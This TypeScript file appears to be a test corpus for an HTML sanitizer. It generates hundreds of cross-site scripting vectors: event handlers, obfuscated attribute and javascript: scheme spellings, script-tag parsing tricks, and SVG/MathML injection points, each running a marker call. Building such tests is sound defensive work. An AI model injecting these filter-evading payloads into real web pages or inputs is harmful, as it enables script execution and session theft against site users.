import { product, run, vectors, type Vector } from "./vector.ts";

/** Handlers that browsers know, those that start by themselves first. */
const EVENTS =
  "error load focus focusin blur toggle beforetoggle begin end repeat animationstart animationend animationiteration animationcancel transitionrun transitionstart transitionend transitioncancel start finish bounce scroll scrollend scrollsnapchange resize pageshow pagehide hashchange popstate message beforeunload unload online offline storage click dblclick auxclick contextmenu mousedown mouseup mousemove mouseover mouseout mouseenter mouseleave wheel mousewheel pointerdown pointerup pointermove pointerover pointerout pointerenter pointerleave pointercancel pointerrawupdate gotpointercapture lostpointercapture touchstart touchend touchmove touchcancel keydown keyup keypress input beforeinput change invalid submit reset formdata select selectstart selectionchange search copy cut paste beforecopy beforecut beforepaste drag dragstart dragend dragenter dragleave dragover drop play playing pause ended canplay canplaythrough loadstart loadeddata loadedmetadata progress durationchange timeupdate volumechange ratechange seeking seeked stalled suspend waiting emptied cuechange abort cancel close fullscreenchange fullscreenerror webkitfullscreenchange webkitanimationstart webkittransitionend securitypolicyviolation slotchange beforematch contentvisibilityautostatechange beforeprint afterprint languagechange readystatechange propertychange afterscriptexecute command".split(
    " ",
  );

const ELEMENTS: readonly ((attributes: string) => string)[] = [
  (attributes) => `<img src=x ${attributes}>`,
  (attributes) => `<p ${attributes} tabindex=1>x</p>`,
  (attributes) => `<svg ${attributes}><circle r=9 ${attributes}/></svg>`,
  (attributes) => `<table background=x ${attributes}><tr><td ${attributes}>x</table>`,
];

/** Ways to write the same attribute that programs with a pattern overlook. */
const ATTRIBUTE_FORMS: readonly ((event: string, script: string) => string)[] = [
  (event, script) => `on${event}="${script}"`,
  (event, script) => `on${event}=${script}`,
  (event, script) => `ON${event.toUpperCase()}='${script.replaceAll("'", "&#39;")}'`,
  (event, script) => `on${event}\n=\n"${script}"`,
  (event, script) => `x="y"on${event}="${script}"`,
  (event, script) => `x='>'on${event}="${script}"`,
  (event, script) => `/on${event}="${script}"/`,
  (event, script) => `on${event}="&#${script.charCodeAt(0)};${script.slice(1)}"`,
  (event, script) => `on${event}="&#x${script.charCodeAt(0).toString(16)}${script.slice(1, 3)}&Tab;${script.slice(1)}"`,
  (event, script) => `on${event}="javascript:${script}"`,
  (event, script) => `style="x:y" on${event}="${script}" style="a:b"`,
  (event, script) => `alt="\`" on${event}="${script}" title="\`"`,
  (event, script) => `on${event}="${script}" on${event}="0"`,
  (event, script) => `"on${event}="${script}"`,
  (event, script) => `<on${event}="${script}"`,
  (event, script) => `=on${event}="${script}"`,
  (event, script) => `\u000con${event}="${script}"`,
  (event, script) => `\u0000on${event}="${script}"`,
];

const handlers = vectors(
  "handler",
  "run",
  product(EVENTS, ELEMENTS).map(
    ([event, element]) =>
      (id: string) =>
        element(`on${event}="${run(id)}"`),
  ),
);

const forms = vectors(
  "form",
  "run",
  product(["error", "click", "focus"], ATTRIBUTE_FORMS).map(
    ([event, form]) =>
      (id: string) =>
        `<img src=x tabindex=0 ${form(event, run(id))}>`,
  ),
);

const scripts = vectors("script", "run", [
  (id) => `<script>${run(id)}</script>`,
  (id) => `<SCRIPT>${run(id)}</SCRIPT>`,
  (id) => `<script\n>${run(id)}</script\n>`,
  (id) => `<script/x>${run(id)}</script>`,
  (id) => `<script type=module>${run(id)}</script>`,
  (id) => `<script type=text/javascript>${run(id)}</script junk>`,
  (id) => `<script language=javascript>${run(id)}</script>`,
  (id) => `<script src="data:text/javascript,${run(id)}"></script>`,
  (id) => `<script src=data:,${encodeURIComponent(run(id))}></script>`,
  (id) => `<scr<script>ipt>${run(id)}</scr</script>ipt>`,
  (id) => `<script<script>>${run(id)}</script</script>>`,
  (id) => `<<script>${run(id)}//<</script>`,
  (id) => `<script><!--\n${run(id)}\n--></script>`,
  (id) => `<script>//<![CDATA[\n${run(id)}\n//]]></script>`,
  (id) => `<![CDATA[<script>${run(id)}</script>]]>`,
  (id) => `<!--><script>${run(id)}</script>-->`,
  (id) => `<!-- --!><script>${run(id)}</script> -->`,
  (id) => `<!--- ><script>${run(id)}</script>-->`,
  (id) => `<!--[if gte IE 4]><script>${run(id)}</script><![endif]-->`,
  (id) => `<![if !IE]><script>${run(id)}</script><![endif]>`,
  (id) => `<?xml version="1.0"?><script>${run(id)}</script>`,
  (id) => `<?><script>${run(id)}</script>`,
  (id) => `</><script>${run(id)}</script>`,
  (id) => `<!><script>${run(id)}</script>`,
  (id) => `<!DOCTYPE x [<!ENTITY e "<script>${run(id)}</script>">]><p>&e;`,
  (id) => `<svg><script>${run(id)}</script></svg>`,
  (id) => `<svg><script>&#x74;${run(id).slice(1)}</script></svg>`,
  (id) => `<svg><script href="data:text/javascript,${run(id)}"/></svg>`,
  (id) => `<svg><script xlink:href="data:text/javascript,${run(id)}"></script></svg>`,
  (id) => `<math><script>${run(id)}</script></math>`,
  (id) => `<svg><a><script>${run(id)}</script></a></svg>`,
  (id) => `<title><script>${run(id)}</script></title><script>${run(id)}</script>`,
  (id) => `<textarea></textarea><script>${run(id)}</script>`,
  (id) => `<noscript><p title="</noscript><script>${run(id)}</script>">`,
  (id) => `<style></style><script>${run(id)}</script>`,
  (id) => `<style><!--</style><script>${run(id)}</script>--></style>`,
  (id) => `<xmp></xmp><script>${run(id)}</script>`,
  (id) => `<iframe></iframe><script>${run(id)}</script>`,
  (id) => `<noembed></noembed><script>${run(id)}</script>`,
  (id) => `<noframes></noframes><script>${run(id)}</script>`,
  (id) => `<select><script>${run(id)}</script></select>`,
  (id) => `<select><option><script>${run(id)}</script>`,
  (id) => `<table><script>${run(id)}</script></table>`,
  (id) => `<table><tr><script>${run(id)}</script></tr></table>`,
  (id) => `<table><caption><script>${run(id)}</script>`,
  (id) => `<colgroup><script>${run(id)}</script></colgroup>`,
  (id) => `<frameset><script>${run(id)}</script></frameset>`,
  (id) => `<template><script>${run(id)}</script></template><script>${run(id)}</script>`,
  (id) => `<template shadowrootmode=open><script>${run(id)}</script><img src=x onerror="${run(id)}"></template>`,
  (id) => `<div><template shadowrootmode=closed><img src=x onerror="${run(id)}"></template></div>`,
  (id) => `<a href="&quot;><script>${run(id)}</script>">x</a><script>${run(id)}</script>`,
  (id) => `<img alt="<script>${run(id)}</script>" src=x><script>${run(id)}</script>`,
  (id) => `<p title='"><script>${run(id)}</script>'><script>${run(id)}</script>`,
  (id) => `<p a="'><script>${run(id)}</script>" b='"><script>${run(id)}</script>`,
  (id) => `<script>${run(id)}`,
  (id) => `<p>+ADw-script+AD4-</p><script>${run(id)}</script>`,
  (id) => `\ufeff<script>${run(id)}</script>`,
  (id) => `\u0000<script>${run(id)}</script>`,
  (id) => `<div>\ud800<script>${run(id)}</script>`,
]);

const SCHEMES: readonly ((script: string) => string)[] = [
  (script) => `javascript:${script}`,
  (script) => `JaVaScRiPt:${script}`,
  (script) => ` javascript:${script}`,
  (script) => `\tjavascript:${script}`,
  (script) => `\u0001javascript:${script}`,
  (script) => `&#1;&#31;javascript:${script}`,
  (script) => `java\nscript:${script}`,
  (script) => `java\tscript:${script}`,
  (script) => `jav&#x09;ascript:${script}`,
  (script) => `jav&#x0A;ascript:${script}`,
  (script) => `jav&#x0D;ascript:${script}`,
  (script) => `java&Tab;script:${script}`,
  (script) => `java&NewLine;script:${script}`,
  (script) => `javascript&colon;${script}`,
  (script) => `javascript&#58;${script}`,
  (script) => `javascript&#x3a;${script}`,
  (script) => `&#106;avascript:${script}`,
  (script) => `&#0000106;avascript:${script}`,
  (script) => `&#106avascript:${script}`,
  (script) => `&#x6a;avascript:${script}`,
  (script) => `&#x6Aavascript:${script}`,
  (script) => `javascript://%0a${script}`,
  (script) => `javascript://host/%0d%0a${script}`,
  (script) => `javascript:/*--></title></style>*/${script}`,
  (script) => `javascript:void(${script})`,
  (script) => `javascript:'<script>${script}</script>'`,
  (script) => `data:text/html,<script>${script}</script>`,
  (script) => `data:text/html;base64,${Buffer.from(`<script>${script}</script>`).toString("base64")}`,
  (script) =>
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>${script.replaceAll("'", '"')}</script></svg>`,
  (script) =>
    `data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>${script.replaceAll("'", '"')}</script>`,
  (script) => `vbscript:${script}`,
  (script) => `livescript:${script}`,
  (script) => `mocha:${script}`,
  (script) => `view-source:javascript:${script}`,
  (script) => `feed:javascript:${script}`,
  (script) => `blob:javascript:${script}`,
];

const PLACES: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button>x</button><input type=submit></form>`,
  (address) => `<svg><a xlink:href="${address}"><text y=20>x</text></a></svg>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<img src="${address}">`,
];

const addresses = vectors(
  "address",
  "run",
  product(PLACES, SCHEMES).map(
    ([place, scheme]) =>
      (id: string) =>
        place(scheme(run(id))),
  ),
);

const morePlaces = vectors("place", "run", [
  (id) => `<a href=javascript:${run(id)}>x</a>`,
  (id) => `<a href='javascript:${run(id).replaceAll("'", "&apos;")}'>x</a>`,
  (id) => `<a\nhref\n=\n"javascript:${run(id)}"\n>x</a>`,
  (id) =>
    `<a href="http://ok" href="javascript:${run(id)}">x</a><a href="javascript:${run(id)}" href="http://ok">x</a>`,
  (id) => `<base href="javascript:/a/-${run(id)}//"><a href="x">x</a>`,
  (id) =>
    `<area href="javascript:${run(id)}"><map name=m><area shape=default href="javascript:${run(id)}"></map><img usemap="#m" src=x>`,
  (id) => `<form><button formaction="javascript:${run(id)}">x</button></form>`,
  (id) => `<form id=f${id}></form><button form=f${id} formaction="javascript:${run(id)}">x</button>`,
  (id) =>
    `<input type=image formaction="javascript:${run(id)}" src=x><input type=submit formaction="javascript:${run(id)}">`,
  (id) => `<isindex action="javascript:${run(id)}" type=image>`,
  (id) => `<embed src="javascript:${run(id)}">`,
  (id) => `<embed src="data:text/html,<script>${run(id)}</script>">`,
  (id) => `<embed code="javascript:${run(id)}" type="text/html">`,
  (id) => `<object><param name=movie value="javascript:${run(id)}"></object>`,
  (id) => `<object type="text/html" data="data:text/html,<script>${run(id)}</script>"></object>`,
  (id) => `<applet code="javascript:${run(id)}"></applet>`,
  (id) => `<frameset><frame src="javascript:${run(id)}"></frameset>`,
  (id) => `<frameset onload="${run(id)}"><frame></frameset>`,
  (id) => `<iframe srcdoc="<script>${run(id)}</script>"></iframe>`,
  (id) => `<iframe srcdoc="&lt;img src=x onerror=&quot;${run(id)}&quot;&gt;"></iframe>`,
  (id) => `<iframe srcdoc='<svg onload="${run(id)}">'></iframe>`,
  (id) => `<iframe src="about:blank" onload="${run(id)}"></iframe>`,
  (id) => `<iframe name="<script>${run(id)}</script>" src="javascript:name"></iframe>`,
  (id) => `<meta http-equiv=refresh content="0;url=javascript:${run(id)}">`,
  (id) => `<meta http-equiv=refresh content="0;url=data:text/html,<script>${run(id)}</script>">`,
  (id) => `<meta http-equiv="Set-Cookie" content="x=<script>${run(id)}</script>"><script>${run(id)}</script>`,
  (id) => `<link rel=import href="data:text/html,<script>${run(id)}</script>"><script>${run(id)}</script>`,
  (id) => `<link rel=stylesheet href="javascript:${run(id)}" onerror="${run(id)}">`,
  (id) => `<link rel=prefetch href=x onload="${run(id)}" onerror="${run(id)}">`,
  (id) => `<body onload="${run(id)}">x`,
  (id) => `<body background="javascript:${run(id)}" onpageshow="${run(id)}">`,
  (id) => `<html onmouseover="${run(id)}"><body onfocus="${run(id)}">`,
  (id) => `<img src="javascript:${run(id)}" onerror="${run(id)}">`,
  (id) => `<img dynsrc="javascript:${run(id)}" lowsrc="javascript:${run(id)}" src=x onerror="${run(id)}">`,
  (id) => `<image src=x onerror="${run(id)}">`,
  (id) => `<image href=x onerror="${run(id)}">`,
  (id) => `<video><source onerror="${run(id)}" src=x></video>`,
  (id) => `<video src=x onerror="${run(id)}" poster="javascript:${run(id)}"></video>`,
  (id) => `<audio src=x onerror="${run(id)}"></audio>`,
  (id) => `<picture><source srcset=x><img onerror="${run(id)}" src=x></picture>`,
  (id) => `<input autofocus onfocus="${run(id)}">`,
  (id) => `<select autofocus onfocus="${run(id)}"><option>x</select>`,
  (id) => `<textarea autofocus onfocus="${run(id)}"></textarea>`,
  (id) => `<keygen autofocus onfocus="${run(id)}"><input onblur="${run(id)}" autofocus><input autofocus>`,
  (id) => `<button autofocus onfocus="${run(id)}">x</button>`,
  (id) => `<p contenteditable autofocus onfocus="${run(id)}">x</p>`,
  (id) => `<a autofocus tabindex=0 onfocus="${run(id)}">x</a>`,
  (id) => `<details open ontoggle="${run(id)}"><summary>x</summary></details>`,
  (id) => `<dialog open onclose="${run(id)}" onfocus="${run(id)}" autofocus tabindex=0>x</dialog>`,
  (id) => `<button popovertarget=p${id}>x</button><p popover id=p${id} onbeforetoggle="${run(id)}">x</p>`,
  (id) => `<marquee onstart="${run(id)}" loop=1 width=0>x</marquee>`,
  (id) => `<marquee behavior=alternate onbounce="${run(id)}" onfinish="${run(id)}">x</marquee>`,
  (id) => `<style>@keyframes k${id}{}</style><p style="animation-name:k${id}" onanimationstart="${run(id)}">x`,
  (id) => `<p style="transition:color 1s" ontransitionend="${run(id)}" onclick="${run(id)}">x`,
  (id) => `<progress value=x onfocus="${run(id)}" tabindex=0 autofocus></progress>`,
  (id) => `<x onclick="${run(id)}" tabindex=1 onfocus="${run(id)}" autofocus>x`,
  (id) => `<x-y onfocus="${run(id)}" autofocus tabindex=1>x</x-y>`,
  (id) => `<blink onclick="${run(id)}">x</blink><font onclick="${run(id)}">x`,
  (id) => `<bgsound src="javascript:${run(id)}" onerror="${run(id)}" onclick="${run(id)}">`,
  (id) => `<div datasrc="javascript:${run(id)}" datafld=x onclick="${run(id)}">x`,
  (id) => `<div style="width:expression(${run(id)})" onclick="${run(id)}">x`,
  (id) => `<div style="behavior:url(#default#time2)" onbegin="${run(id)}" onclick="${run(id)}">x`,
  (id) => `<xml id=x><a><b>&lt;img src=x onerror=${run(id)}&gt;</b></a></xml><img src=x onerror="${run(id)}">`,
  (id) =>
    `<?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="<img src=x onerror=${run(id)}>"><img src=x onerror="${run(id)}">`,
]);

const svg = vectors("svg", "run", [
  (id) => `<svg onload="${run(id)}">`,
  (id) => `<svg/onload="${run(id)}">`,
  (id) => `<svg\u000conload="${run(id)}">`,
  (id) => `<svg><g onload="${run(id)}"></g></svg>`,
  (id) => `<svg><animate onbegin="${run(id)}" attributeName=x dur=1s></svg>`,
  (id) => `<svg><set onbegin="${run(id)}" attributeName=x></svg>`,
  (id) => `<svg><animateTransform onbegin="${run(id)}" attributeName=transform dur=1s></svg>`,
  (id) => `<svg><animateMotion onbegin="${run(id)}" dur=1s></svg>`,
  (id) => `<svg><a xlink:href="javascript:${run(id)}"><text y=20>x</text></a></svg>`,
  (id) => `<svg><a href="javascript:${run(id)}"><rect width=9 height=9 /></a></svg>`,
  (id) => `<svg><a><animate attributeName=href values="javascript:${run(id)}"/><text y=20>x</text></a></svg>`,
  (id) => `<svg><a><set attributeName="xlink:href" to="javascript:${run(id)}"/><text y=20>x</text></a></svg>`,
  (id) =>
    `<svg><animate xlink:href="#a${id}" attributeName=href values="javascript:${run(id)}"/><a id=a${id}><text y=20>x</text></a></svg>`,
  (id) =>
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${run(id).replaceAll("'", '"')}'/></svg>#x"></use><image href=x onerror="${run(id)}"/></svg>`,
  (id) => `<svg><image href=x onerror="${run(id)}"/></svg>`,
  (id) => `<svg><foreignObject><img src=x onerror="${run(id)}"></foreignObject></svg>`,
  (id) => `<svg><foreignObject><iframe srcdoc="<script>${run(id)}</script>"></foreignObject></svg>`,
  (id) => `<svg><desc><img src=x onerror="${run(id)}"></desc></svg>`,
  (id) => `<svg><title><img src=x onerror="${run(id)}"></title></svg>`,
  (id) => `<svg><style><img src=x onerror="${run(id)}"></style></svg>`,
  (id) =>
    `<svg><style>&lt;/style&gt;&lt;img src=x onerror="${run(id)}"&gt;</style><image href=x onerror="${run(id)}"></svg>`,
  (id) =>
    `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${run(id)}</handler><g onclick="${run(id)}"><text y=9>x</text></g></svg>`,
  (id) => `<svg><switch><g onclick="${run(id)}"><text y=20>x</text></g></switch></svg>`,
  (id) => `<svg><discard onbegin="${run(id)}"/><set onbegin="${run(id)}" attributeName=x /></svg>`,
  (id) => `<svg xmlns="http://www.w3.org/2000/svg" onfocusin="${run(id)}" tabindex=0 autofocus></svg>`,
  (id) => `<math href="javascript:${run(id)}"><mtext>x</mtext></math><img src=x onerror="${run(id)}">`,
  (id) => `<math><mi xlink:href="data:x,<script>${run(id)}</script>">x</mi></math><img src=x onerror="${run(id)}">`,
  (id) =>
    `<math><maction actiontype="statusline" xlink:href="javascript:${run(id)}">x</maction><mtext><img src=x onerror="${run(id)}"></mtext></math>`,
  (id) => `<math><annotation-xml encoding="text/html"><img src=x onerror="${run(id)}"></annotation-xml></math>`,
  (id) =>
    `<math><semantics><annotation-xml encoding="application/xhtml+xml"><script>${run(id)}</script></annotation-xml></semantics></math>`,
  (id) => `<math><mtext><iframe srcdoc="<script>${run(id)}</script>"></iframe></mtext></math>`,
]);

export const runVectors: readonly Vector[] = [...handlers, ...forms, ...scripts, ...addresses, ...morePlaces, ...svg];
